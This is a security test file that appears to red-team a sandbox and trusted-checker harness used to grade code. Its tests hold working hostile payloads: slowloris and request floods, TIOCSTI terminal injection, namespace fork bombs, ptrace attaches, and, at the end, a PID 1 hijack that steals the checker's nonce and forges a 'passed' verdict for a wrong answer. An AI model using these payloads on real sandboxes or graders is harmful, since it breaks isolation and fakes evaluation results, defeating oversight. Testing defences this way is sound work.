@pytest.mark.server
def test_p23_server_runs_only_json_bodies(server):
    """CORS-simple requests and headerless bodies never run code: no Content-Type (a fetch() of a
    Blob without type), `text/plain; charset=application/json`, a form, multipart, `application/json`
    as a parameter."""
    marker = f"ran{TOKEN}"
    body = json.dumps({"code": f"print('{marker}')", "language": "python"}).encode()
    for ctype in (
        None,
        "text/plain; charset=application/json",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=application/json",
        "text/plain;application/json",
        "application/jsonp",
        "application/json-seq",
    ):
        c = http.client.HTTPConnection("127.0.0.1", server["port"], timeout=60)
        c.putrequest("POST", "/run_code", skip_accept_encoding=True)
        if ctype is not None:
            c.putheader("Content-Type", ctype)
        c.putheader("Content-Length", str(len(body)))
        c.endheaders(body)
        r = c.getresponse()
        data = r.read()
        assert marker.encode() not in data and r.status != 200, f"Content-Type {ctype!r} ran code: {r.status}"
    _alive(server["port"])


@pytest.mark.server
@pytest.mark.slow
def test_p24_slowloris_headers_and_bodies_are_cut(server):
    """One header byte (or body byte) every 0.3 s: header_timeout_s / body_timeout_s are 2 s here, so
    the connection must be closed long before 20 s (10x)."""
    req = b"POST /run_code HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nX-Pad: " + b"a" * 200
    for phase in ("headers", "body"):
        s = socket.create_connection(("127.0.0.1", server["port"]))
        s.settimeout(1)
        t0 = time.monotonic()
        closed = False
        if phase == "body":
            s.sendall(
                b"POST /run_code HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                b"Content-Length: 1000\r\n\r\n"
            )
        data = req if phase == "headers" else b" " * 1000
        for i in range(len(data)):
            if time.monotonic() - t0 > 20:
                break
            try:
                s.sendall(data[i : i + 1])
                got = s.recv(1024)
                if got == b"" or got.startswith(b"HTTP/1.1 4"):
                    closed = True
                    break
            except TimeoutError:
                continue
            except OSError:
                closed = True
                break
        s.close()
        assert closed, f"a dribbling client kept its {phase} open for {time.monotonic() - t0:.0f} s"
    _alive(server["port"])


@pytest.mark.server
def test_p25_malformed_numbers_nesting_and_chunked_bodies_are_4xx(server):
    port = server["port"]
    h = {"Content-Type": "application/json"}
    cases = {
        "int_digits": b'{"code": "print(1)", "language": "python", "memory_limit_MB": 1' + b"0" * 5000 + b"}",
        "inf_timeout": b'{"code": "print(1)", "language": "python", "run_timeout": 1e999}',
        "deep_unknown": b'{"code": "print(1)", "language": "python", "x": '
        + b"[" * 100000
        + b"]" * 100000
        + b"}",
        "deep_files": b'{"code": "print(1)", "language": "python", "files": '
        + b'{"a":' * 50000
        + b"1"
        + b"}" * 50000
        + b"}",
        "neg_zero": b'{"code": "print(1)", "language": "python", "run_timeout": -0.0}',
        "lang_obj": b'{"code": "print(1)", "language": {"__class__": "python"}}',
        "files_dot": b'{"code": "print(1)", "language": "python", "files": {".": "eA=="}}',
        "files_empty": b'{"code": "print(1)", "language": "python", "files": {"": "eA=="}}',
        "files_parent": b'{"code": "print(1)", "language": "python", "files": {"a/b/..": "eA=="}}',
        "cl_and_te": None,
    }
    for name, body in cases.items():
        if body is None:
            continue
        st, data = _post(port, body, h)
        assert 400 <= st < 500, f"{name}: HTTP {st} {data[:200]!r}"
    # chunked: a chunk that declares 2^40 bytes, and a body that streams past max_body_bytes (1 MiB here)
    for declared in (b"10000000000", b"100000"):
        s = socket.create_connection(("127.0.0.1", port))
        s.settimeout(30)
        s.sendall(
            b"POST /run_code HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n"
        )
        try:
            for _ in range(40):
                s.sendall(
                    declared + b"\r\n" + b" " * 100000 + b"\r\n"
                    if declared == b"100000"
                    else declared + b"\r\n" + b" " * 100000
                )
            resp = s.recv(200)
        except OSError:
            resp = b"closed"
        s.close()
        assert not resp.startswith(b"HTTP/1.1 2") and not resp.startswith(b"HTTP/1.1 5"), resp
    _alive(port)


@pytest.mark.server
@pytest.mark.slow
def test_p26_a_flood_gets_429s_never_5xx_and_the_server_recovers(server):
    port = server["port"]
    body = json.dumps(
        {"code": "import time\ntime.sleep(3)", "language": "python", "run_timeout": 20}
    ).encode()
    codes: list[object] = []

    def one() -> None:
        try:
            codes.append(_post(port, body, {"Content-Type": "application/json"}, timeout=180)[0])
        except OSError as e:
            codes.append(type(e).__name__)

    threads = [threading.Thread(target=one) for _ in range(120)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(240)
    assert all(c in (200, 429) for c in codes), sorted(set(map(str, codes)))
    assert codes.count(429) >= 60, "the queue (2 + 4 places) must refuse most of 120 requests"
    _alive(port)


@pytest.mark.server
def test_p27_minimal_timeout_with_a_busy_program_is_failed_not_sandbox_error(server):
    body = json.dumps({"code": "while True: pass", "language": "python", "run_timeout": 0.05}).encode()
    st, data = _post(server["port"], body, {"Content-Type": "application/json"})
    assert st == 200, (st, data[:200])
    assert json.loads(data)["status"] == "Failed", data[:300]


# --------------------------------------------------------------------------- round 3, second batch


@pytest.mark.parametrize("backend", ["unshare", "bwrap"])
def test_p28_the_callers_terminal_is_out_of_reach(backend, bait):
    """A caller in a terminal (rewardloop run by hand): the run must not reach that terminal through
    `/dev/tty` (bound from the host): writing to it, or TIOCSTI, which pushes keystrokes into the
    caller's shell (dev.tty.legacy_tiocsti is 1 here)."""
    worker = Worker(backend, bait, tty=True)
    try:
        stat_fields = Path(f"/proc/{worker.proc.pid}/stat").read_text().rsplit(")", 1)[1].split()
        assert int(stat_fields[4]) != 0, "control: the worker has no controlling terminal"
        code = textwrap.dedent(f"""
            import fcntl, os, termios
            try:
                fd = os.open('/dev/tty', os.O_RDWR)
            except OSError as e:
                print('no tty', e)
            else:
                os.write(fd, b'{CANARY}')
                try:
                    for ch in b'id\\n':
                        fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
                    print('TIOCSTI ok')
                except OSError as e:
                    print('TIOCSTI refused', e)
                print('TTY OPEN')
        """)
        r = worker.run(code, limits={"wall_s": 20})
        os.set_blocking(worker.master, False)
        try:
            seen = os.read(worker.master, 65536)
        except OSError:
            seen = b""
        assert "TTY OPEN" not in r["stdout"] and CANARY.encode() not in seen, (
            f"the run opened the caller's controlling terminal: {r['stdout']} / {seen[:200]!r}"
        )
    finally:
        worker.close()


def _processor_class(tmp: Path, body: str) -> bytes:
    src = PROC_SRC.replace(
        '{{"leak1", "@SECRET@"}, {"leak2", "/etc/shadow"}, {"leakdir", "@SECRETDIR@"}}', "{}"
    )
    src = src.replace(
        "            Files.createDirectories(out);\n",
        "            Files.createDirectories(out);\n" + body,
    )
    d = tmp / "p"
    d.mkdir(exist_ok=True)
    (d / "RtProc.java").write_text(
        src.replace("@SECRET@", "/nonexistent").replace("@SECRETDIR@", "/nonexistent")
    )
    subprocess.run(["javac", "--release", "17", "-d", str(d), str(d / "RtProc.java")], check=True)
    return (d / "RtProc.class").read_bytes()


def test_p29_program_code_does_not_run_at_compile_time_with_compile_limits(w, tmp_path):
    """javac loads annotation processors from its class path (the working directory, so `files`): the
    program's code then runs in the compile phase, with its 2048 MB / compile_wall_s limits instead of
    the run's. Here it allocates more than the run's limit (unshare: 1,000 MB for 512 MB; bwrap, where Java needs
    1,024 MB to start at all: 1,200 MB)."""
    w.need("java")
    if not shutil.which("javac"):
        pytest.skip("no javac on the host to build the processor")
    run_mb, hog_mb = (512, 1000) if w.backend == "unshare" else (1024, 1200)
    body = (
        "            byte[][] hog = new byte[HOG][];\n"
        "            for (int i = 0; i < HOG; i++) { hog[i] = new byte[1 << 20]; java.util.Arrays.fill(hog[i], (byte) 1); }\n"
        '            Files.writeString(out.resolve("hog.txt"), "HELDHOG");\n'
    ).replace("HOG", str(hog_mb))
    files = {
        "RtProc.class": _b64(_processor_class(tmp_path, body)),
        "META-INF/services/javax.annotation.processing.Processor": "RtProc\n",
    }
    main = JAVA_MAIN.replace('"out/ran.txt",', '"out/ran.txt", "out/hog.txt",')
    r = w.run(main, "java", files=files, limits={"wall_s": 20, "compile_wall_s": 120, "memory_mb": run_mb})
    assert r["status"] != "sandbox_error", r
    assert "RAN" not in r["stdout"] and "HELD" not in r["stdout"], (
        f"program-supplied code ran inside javac (compile limits): {r['stdout'][:300]}"
    )


def test_p30_a_fork_bomb_from_a_nested_user_namespace_is_still_capped(w):
    """max_processes is RLIMIT_NPROC of the run's uid; capabilities in a user namespace of its own
    must not lift it."""
    code = textwrap.dedent("""
        import ctypes, os, time
        libc = ctypes.CDLL(None, use_errno=True)
        libc.unshare(0x10000000)
        n = 0
        for _ in range(300):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            n += 1
        print('FORKED', n)
    """)
    r = w.run(code, limits={"wall_s": 20, "max_processes": 16})
    got = [int(x.split()[1]) for x in r["stdout"].splitlines() if x.startswith("FORKED")]
    assert not (got and got[0] > 16), f"{got[0]} processes with max_processes=16"


def test_p31_raising_rlimits_from_a_user_namespace_does_not_lift_file_size(w):
    code = textwrap.dedent("""
        import ctypes, os, resource
        libc = ctypes.CDLL(None, use_errno=True)
        libc.unshare(0x10000000)
        try:
            resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            print('raised')
        except (ValueError, OSError) as e:
            print('refused', e)
        n = 0
        try:
            with open('big', 'wb') as fh:
                for _ in range(24):
                    fh.write(b'z' * (1 << 20)); fh.flush(); n += 1
        except OSError as e:
            print('stopped', e)
        print('MB', n)
    """)
    r = w.run(code, limits={"wall_s": 20, "file_size_mb": 4})
    got = [int(x.split()[1]) for x in r["stdout"].splitlines() if x.startswith("MB")]
    assert not (got and got[0] > 4), f"wrote a {got[0]} MB file with file_size_mb=4: {r['stdout']}"


KEYS = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
add_key, keyctl = 248, 250
def kc(*a):
    return libc.syscall(keyctl, *[ctypes.c_long(x) for x in a])
desc = b'rt:MARK'
found = []
for ring, name in ((-4, 'user'), (-5, 'usersession'), (-3, 'session')):
    kid = kc(10, ring, ctypes.cast(ctypes.c_char_p(b'user'), ctypes.c_void_p).value,
             ctypes.cast(ctypes.c_char_p(desc), ctypes.c_void_p).value, 0)
    if kid > 0:
        found.append(name)
pers = kc(22, -1, -4)
if pers > 0:
    kid = kc(10, pers, ctypes.cast(ctypes.c_char_p(b'user'), ctypes.c_void_p).value,
             ctypes.cast(ctypes.c_char_p(desc), ctypes.c_void_p).value, 0)
    if kid > 0:
        found.append('persistent')
print('FOUND', found)
if sys.argv[-1] == 'plant' or 'PLANT' == 'PLANT':
    for ring in (-4, -5, -3, pers):
        if ring and ring != -1:
            libc.syscall(add_key, b'user', desc, b'MARK', 4, ctypes.c_long(ring))
print('planted')
"""


def test_p32_keys_planted_in_every_keyring_are_gone_for_the_next_run(w):
    """user, user-session, session and persistent keyrings: a later run finds none of an earlier run's keys."""
    mark = f"rt:{secrets.token_hex(6)}"
    code = KEYS.replace("rt:MARK", mark)
    first = w.run(code, limits={"wall_s": 20})
    assert first["status"] == "finished" and "planted" in first["stdout"], first
    for _ in range(3):
        later = w.run(code, limits={"wall_s": 20})
        assert "FOUND []" in later["stdout"], f"a later run found an earlier run's key: {later['stdout']}"


def test_p33_sysv_shared_memory_cannot_exceed_the_documented_memory_bound(w):
    """SysV shm segments (a new IPC namespace has default shmmax/shmall), attached and touched."""
    code = textwrap.dedent("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        total = 0
        try:
            for _ in range(12):
                sid = libc.shmget(0, 32 << 20, 0o1600)
                if sid < 0:
                    print('shmget failed', ctypes.get_errno()); break
                addr = libc.shmat(sid, None, 0)
                if addr in (None, ctypes.c_void_p(-1).value):
                    print('shmat failed', ctypes.get_errno()); break
                ctypes.memset(addr, 1, 32 << 20)
                total += 32
        except OSError as e:
            print('stopped', e)
        print('HELD', total)
    """)
    r = w.run(code, limits={"wall_s": 60, "memory_mb": 32, "max_processes": 4})
    held = [int(x.split()[1]) for x in r["stdout"].splitlines() if x.startswith("HELD")]
    assert not (held and held[0] >= 384), f"held {held[0]} MB of SysV shm with a 128 MB bound ({r['status']})"


@pytest.mark.server
@pytest.mark.slow
def test_p34_slow_bodies_cannot_starve_the_queue(server):
    """Eight clients reserve the whole byte budget (Content-Length 1 MiB each) and dribble; after 10x
    body_timeout_s a good request must be served."""
    port = server["port"]
    stop = threading.Event()
    socks = []
    for _ in range(8):
        s = socket.create_connection(("127.0.0.1", port))
        s.sendall(
            b"POST /run_code HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: 1048576\r\n\r\n{"
        )
        socks.append(s)

    def dribble() -> None:
        while not stop.is_set():
            for s in socks:
                with contextlib.suppress(OSError):
                    s.send(b" ")
            time.sleep(0.5)

    t = threading.Thread(target=dribble, daemon=True)
    t.start()
    try:
        time.sleep(20)
        st, data = _post(
            port,
            json.dumps({"code": "print(6*7)", "language": "python"}).encode(),
            {"Content-Type": "application/json"},
            timeout=60,
        )
        assert st == 200, f"slow bodies starved the queue: HTTP {st} {data[:200]!r}"
    finally:
        stop.set()
        t.join(5)
        for s in socks:
            s.close()


def test_p35_rust_compile_time_reads_of_hidden_files_and_caller_env(w, bait):
    w.need("rust")
    for expr in (f'include_str!("{bait["secret"]}")', 'env!("RT_SECRET_ENV")', 'env!("RT_CANARY")'):
        r = w.run(
            f'fn main() {{ println!("{{}}", {expr}); }}', "rust", limits={"wall_s": 10, "compile_wall_s": 120}
        )
        assert CANARY not in r["stdout"], f"{expr} leaked at compile time"


def test_p36_time_budget_holds_against_programs_that_leave_stdout_open(w):
    """Twenty tests, each program forks a setsid grandchild that keeps stdout open and sleeps; with
    wall_s=2 and time_budget_s=4 the sample must end long before 20 x 2 s."""
    code = textwrap.dedent("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            time.sleep(1000)
        print(int(input()) + 1)
    """)
    tests = {"inputs": [f"{i}\n" for i in range(20)], "outputs": [f"{i + 2}\n" for i in range(20)]}
    t0 = time.monotonic()
    res = w.tests(code, tests, limits={"wall_s": 2}, kw={"time_budget_s": 4})
    took = time.monotonic() - t0
    assert "passed" not in _statuses(res) and "sandbox_error" not in _statuses(res), res
    assert took < 30, f"the sample took {took:.0f} s with time_budget_s=4"


def test_p37_a_correct_java_program_runs_at_half_a_gigabyte(w):
    """Status honesty: a correct program must not fail because of the sandbox's own settings
    (`-Xss64m` thread stacks counted by RLIMIT_DATA where no cgroup caps memory)."""
    w.need("java")
    src = "public class Main { public static void main(String[] a) { System.out.println(6 * 7); } }"
    r = w.run(src, "java", limits={"wall_s": 20, "compile_wall_s": 120, "memory_mb": 512})
    assert r["status"] == "finished" and r["stdout"] == "42\n", r


def test_p38_a_grandchild_cannot_steal_or_forge_the_checkers_verdict_line(w):
    """Under bwrap, PID 1 (bwrap, same uid, dumpable) holds the sandbox's stdout pipe: a grandchild of
    the program process can open `/proc/1/fd/1` for *reading*, take the checker's `<nonce> <verdict>`
    line off the pipe, and write back an edited one. A wrong program must never pass; a right one with a
    grandchild that writes junk there must not be fooled into anything but its own result either."""
    tests = {
        "test": "def check(candidate):\n    assert candidate(2, 3) == 5\n    assert candidate(4, 4) == 8\n",
        "entry_point": "add",
    }
    thief = textwrap.dedent("""
        import os
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                try:
                    fd = os.open('/proc/1/fd/1', os.O_RDONLY)
                    data = os.read(fd, 65536)
                    out = os.open('/proc/1/fd/1', os.O_WRONLY)
                    os.write(out, data.replace(b'false', b'true').replace(b'runtime_error', b'passed'))
                except OSError:
                    pass
                os._exit(0)
            os._exit(0)
    """)
    for _ in range(5):
        res = w.tests(thief + "def add(a, b):\n    return a - b\n", tests)
        assert _statuses(res) != ["passed"], f"a stolen and edited verdict line was believed: {res}"


def test_p39_tokens_split_by_non_ascii_whitespace_are_wrong(w):
    """With float_tol the comparison is token-wise; Python's str.split() also splits on U+2003, U+3000,
    VT, FF and the ASCII separators 0x1C-0x1F, which no judge treats as blanks. The exact (no float_tol)
    comparison rejects them, so the tolerant one must too."""
    tests = {"inputs": ["\n"], "outputs": ["10 20\n"]}
    passed = []
    for sep in ("\u2003", "\u3000", "\x1c", "\x1f", "\x85"):
        out = f"10{sep}20"
        exact = w.tests(f"import sys\nsys.stdout.write({out!r} + '\\n')", tests)
        tolerant = w.tests(f"import sys\nsys.stdout.write({out!r} + '\\n')", tests, kw={"float_tol": 1e-5})
        if _statuses(exact) != ["passed"] and _statuses(tolerant) == ["passed"]:
            passed.append(repr(sep))
    assert not passed, f"tokens split by {passed} pass only under float_tol"


@pytest.mark.server
def test_p40_server_request_framing_and_network_reach(server):
    """`Expect: 100-continue` with a Content-Length over max_body_bytes is refused before the body;
    Content-Length + Transfer-Encoding together is refused; a bash program cannot reach the server
    itself over /dev/tcp."""
    port = server["port"]
    s = socket.create_connection(("127.0.0.1", port))
    s.settimeout(30)
    s.sendall(
        b"POST /run_code HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: 1073741824\r\nExpect: 100-continue\r\n\r\n"
    )
    first = s.recv(200)
    s.close()
    assert first.startswith(b"HTTP/1.1 413") or first.startswith(b"HTTP/1.1 4"), first
    s = socket.create_connection(("127.0.0.1", port))
    s.settimeout(30)
    body = json.dumps({"code": "print(1)", "language": "python"}).encode()
    s.sendall(
        b"POST /run_code HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % len(body) + body
    )
    try:
        resp = s.recv(200)
    except OSError:
        resp = b""
    s.close()
    assert not resp.startswith(b"HTTP/1.1 2") and not resp.startswith(b"HTTP/1.1 5"), resp
    code = f"exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'GET /v1/ping HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3"
    st, data = _post(
        port,
        json.dumps({"code": code, "language": "bash", "run_timeout": 10}).encode(),
        {"Content-Type": "application/json"},
    )
    assert st == 200 and b"pong" not in data, data[:300]
    _alive(port)


def test_p41_the_program_cannot_ptrace_the_sandboxs_own_processes(w):
    """Every process in the run's PID namespace that the program did not start is sandbox machinery
    (bwrap's PID 1 holds the run's stdout and stderr and reports its exit status): the program must not
    be able to PTRACE_ATTACH to it (and so inject code into it)."""
    code = textwrap.dedent("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        me = os.getpid()
        mine = {me}
        attached = []
        for pid in sorted(int(p) for p in os.listdir('/proc') if p.isdigit()):
            if pid in mine:
                continue
            if libc.ptrace(16, pid, 0, 0) == 0:          # PTRACE_ATTACH
                attached.append(pid)
                os.waitpid(pid, 0x40000000)               # __WALL
                libc.ptrace(17, pid, 0, 0)                # PTRACE_DETACH
        print('ATTACHED', attached)
    """)
    r = w.run(code, limits={"wall_s": 20})
    assert r["status"] == "finished" and "ATTACHED" in r["stdout"], r
    assert "ATTACHED []" in r["stdout"], f"the program ptrace-attached to sandbox processes: {r['stdout']}"


def test_p42_the_program_cannot_read_the_pipe_that_carries_the_verdict(w):
    """Another process of the namespace holds the run's stdout (bwrap's PID 1): opening its
    `/proc/<pid>/fd/1` *for reading* gives the program the read end of the pipe the checker's
    `<nonce> <verdict>` line travels on (a thief blocked in read() took a line off it in 6 of 10 tries
    here). The program must not be able to open another process's stdout or stderr at all."""
    code = textwrap.dedent("""
        import os
        me = os.getpid()
        got = []
        for pid in sorted(int(p) for p in os.listdir('/proc') if p.isdigit()):
            if pid == me:
                continue
            for fd in (1, 2):
                try:
                    os.close(os.open(f'/proc/{pid}/fd/{fd}', os.O_RDONLY | os.O_NONBLOCK))
                    got.append((pid, fd))
                except OSError:
                    pass
        print('OPENED', got)
    """)
    r = w.run(code, limits={"wall_s": 20})
    assert r["status"] == "finished" and "OPENED" in r["stdout"], r
    assert "OPENED []" in r["stdout"], (
        f"the program opened another process's stdio for reading: {r['stdout']}"
    )


def test_p43_auto_without_bubblewrap_on_path_fails_closed(bait):
    """An unprivileged caller whose PATH has no `bwrap` (a venv-only PATH): `auto` must refuse or still
    isolate — never run with the caller's rights (the hidden secret readable)."""
    home = Path(tempfile.mkdtemp(prefix="rl-rt-auto-"))
    shutil.copy(WORKER, home / "worker.py")
    os.chown(home, NOBODY, NOBODY)
    os.chown(home / "worker.py", NOBODY, NOBODY)
    try:
        _auto_probe(home, bait)
    finally:
        subprocess.run(["rm", "-rf", "--one-file-system", str(home)], check=False)


def _auto_probe(home: Path, bait: dict) -> None:
    env = {"PATH": str(home), "PYTHONPATH": SRC, "HOME": str(home), "TMPDIR": str(home), "LANG": "C.UTF-8"}
    req = (
        json.dumps({"op": "hello"})
        + "\n"
        + json.dumps({"op": "run", "code": f"print(open({bait['secret']!r}).read())"})
    )
    p = subprocess.run(
        [
            shutil.which("setpriv") or "/usr/bin/setpriv",
            f"--reuid={NOBODY}",
            f"--regid={NOBODY}",
            "--clear-groups",
            "/usr/bin/python3",
            str(home / "worker.py"),
            "auto",
        ],
        input=req + "\n",
        capture_output=True,
        text=True,
        env=env,
        cwd=str(home),
        timeout=120,
    )
    replies = [json.loads(x) for x in p.stdout.splitlines() if x.strip()]
    assert replies, p.stderr[-2000:]
    if not replies[0]["ok"]:
        assert replies[0]["error"].startswith("ConfigError"), replies[0]
        return
    assert CANARY not in json.dumps(replies[1:]), f"auto ran without isolation: {replies[1:]}"


def test_p44_in_the_harness_the_program_cannot_touch_the_checkers_stdout(w):
    """The same as p42 inside the trusted-checker harness: the program process (a fork of the driver)
    tries to write a line into, and read it back from, the pipe the checker's verdict goes out on,
    through any other process's `/proc/<pid>/fd/1`. The returned value says whether it could; only a
    correct answer computed *after* a successful round trip passes, so `passed` means it could."""
    tests = {"inputs": ["2\n3"], "outputs": ["5"], "fn_name": "add"}
    code = textwrap.dedent("""
        import os
        def add(a, b):
            me = os.getpid()
            for pid in sorted(int(p) for p in os.listdir('/proc') if p.isdigit()):
                if pid == me:
                    continue
                try:
                    wfd = os.open(f'/proc/{pid}/fd/1', os.O_WRONLY)
                    rfd = os.open(f'/proc/{pid}/fd/1', os.O_RDONLY | os.O_NONBLOCK)
                except OSError:
                    continue
                os.write(wfd, b'probe-line\\n')
                try:
                    if os.read(rfd, 100) == b'probe-line\\n':
                        return a + b
                except OSError:
                    pass
            return -1
    """)
    res = w.tests(code, tests)
    assert _statuses(res) != ["passed"], "the program wrote to and read from the checker's stdout pipe"


# The end-to-end attack behind p41/p42/p44. Under bwrap, PID 1 of the run's namespace is bwrap itself:
# the caller's uid, dumpable, unkillable from inside, and it holds the pipe the checker's verdict goes
# out on. The program process ptrace-attaches to it, makes it execve a small Python program (registers
# only: the `syscall` instruction PID 1 is stopped after is reused), and that program waits on the
# verdict pipe opened for reading, takes `<nonce> <verdict>` off it, and writes `<nonce> {"v":"passed"}`
# (the verdict format of a passing check, as seen by any caller of the public `run_tests(sandbox=...)`).
FORGER_INIT = r"""
import os, threading, time
r = os.open('/proc/self/fd/1', os.O_RDONLY)
def reaper():
    while True:
        try:
            os.wait()
        except ChildProcessError:
            break
    time.sleep(0.3)
    os._exit(0)
threading.Thread(target=reaper, daemon=True).start()
data = b''
while not data.endswith(b'\n'):
    chunk = os.read(r, 65536)
    if not chunk:
        break
    data += chunk
nonce = data.decode().partition(' ')[0]
os.write(1, (nonce + ' {"v":"passed"}\n').encode())
time.sleep(5)
os._exit(0)
"""

FORGER_PROGRAM = r"""
import ctypes, os, struct, time
INIT = @INIT@
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        'r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss '
        'fs_base gs_base ds es fs gs').split()]
def hijack():
    if os.getpid() == 1 or libc.ptrace(16, 1, None, None) != 0:          # PTRACE_ATTACH
        return
    os.waitpid(1, 0x40000000)
    regs = Regs()
    libc.ptrace(12, 1, None, ctypes.byref(regs))                          # GETREGS
    base = (regs.rsp - 0x10000) & ~0xF
    blob = bytearray()
    def put(b):
        off = len(blob)
        blob.extend(b)
        while len(blob) % 8:
            blob.append(0)
        return base + off
    py = put(b'/usr/bin/python3\0')
    dash_c = put(b'-c\0')
    code = put(INIT.encode() + b'\0')
    argv = put(struct.pack('QQQQ', py, dash_c, code, 0))
    envp = put(struct.pack('Q', 0))
    for i in range(0, len(blob), 8):
        word = struct.unpack('Q', bytes(blob[i:i + 8]))[0]
        libc.ptrace(5, 1, ctypes.c_void_p(base + i), ctypes.c_void_p(word))   # POKEDATA
    regs.rax, regs.orig_rax = 59, 0xFFFFFFFFFFFFFFFF                        # execve
    regs.rdi, regs.rsi, regs.rdx = py, argv, envp
    regs.rip -= 2                                                          # the syscall it sits after
    libc.ptrace(13, 1, None, ctypes.byref(regs))                           # SETREGS
    libc.ptrace(17, 1, None, None)                                         # DETACH
hijack()
def add(a, b):
    for _ in range(300):
        try:
            if open('/proc/1/cmdline', 'rb').read().startswith(b'/usr/bin/python3'):
                break
        except OSError:
            pass
        time.sleep(0.01)
    time.sleep(0.5)
    return a - b
""".replace("@INIT@", repr(FORGER_INIT))


def test_p45_a_wrong_program_cannot_forge_the_checkers_verdict_through_pid_1(w):
    """End to end: a wrong `add` plus the PID 1 hijack must never pass (HumanEval harness)."""
    if not Path("/usr/bin/python3").exists():
        pytest.skip("the forger's PID 1 program needs /usr/bin/python3")
    tests = {
        "test": "def check(candidate):\n    assert candidate(2, 3) == 5\n    assert candidate(4, 4) == 8\n",
        "entry_point": "add",
    }
    results = [_statuses(w.tests(FORGER_PROGRAM, tests, limits={"wall_s": 20}))[0] for _ in range(3)]
    assert "passed" not in results, f"a wrong program forged a pass (with the real nonce): {results}"
